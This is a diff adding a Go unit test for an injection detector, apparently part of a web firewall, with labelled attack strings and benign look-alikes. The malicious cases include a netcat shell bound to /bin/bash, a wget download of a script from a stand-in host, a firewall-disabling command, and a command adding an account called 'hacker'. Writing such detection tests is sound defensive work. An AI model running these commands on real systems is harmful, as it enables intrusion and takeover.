@@ -251,3 +251,45 @@ func TestMultipartOddNames(t *testing.T) {
 		t.Fatalf("plain upload flagged: %+v", r)
 	}
 }
+
+// TestRound2CodeAndShell covers the code-injection and command-injection shapes added
+// in the second quality round, with look-alikes from code snippets and chat.
+func TestRound2CodeAndShell(t *testing.T) {
+	d := newTestDetector(t)
+	cases := []struct {
+		where, in string
+		threat    bool
+	}{
+		{"query:q", "$f(115).$f(121)", true},
+		{"query:q", "(['passthru'])[0]('id');", true},
+		{"query:q", "posix_getpwuid(0)", true},
+		{"query:q", "${'cmd'}", true},
+		{"query:q", "while(!0);", true},
+		{"query:q", "console.warn()", true},
+		{"query:q", `process["mainModule"]`, true},
+		{"body:text", "Content-Disposition: form-data; name=\"f\"; filename=\"cmd. php\"", true},
+		{"query:q", "nc -nlvp 9001 -e /bin/bash", true},
+		{"query:q", `zsh -c "wget http://x.example/a.sh"`, true},
+		{"query:q", "| netsh advfirewall set allprofiles state off", true},
+		{"query:q", "x & net user hacker P@ss /add", true},
+		{"query:host", "ipconfig /all", true},
+		{"header:X-Forwarded-Host", "whoami", true},
+		{"body:text", "In a loop like while (true) { poll(); } you must sleep.", false},
+		{"body:text", "Template literals look like `${name}` in JavaScript.", false},
+		{"body:text", "$('#menu').toggle() hides the menu in jQuery.", false},
+		{"body:text", "call console.log(value) to debug it", false},
+		{"query:q", "net user growth this quarter", false},
+		{"query:q", "net use of funds", false},
+		{"query:q", "exec (", false},
+		{"body:json:message", "who am I, really?", false},
+		{"body:text", "the upload form accepts photo.png and notes.txt", false},
+	}
+	for _, tc := range cases {
+		t.Run(tc.in, func(t *testing.T) {
+			r := d.Detect(context.Background(), tc.in, tc.where)
+			if r.IsThreat != tc.threat {
+				t.Fatalf("threat %v, want %v: %+v", r.IsThreat, tc.threat, r.Threats)
+			}
+		})
+	}
+}
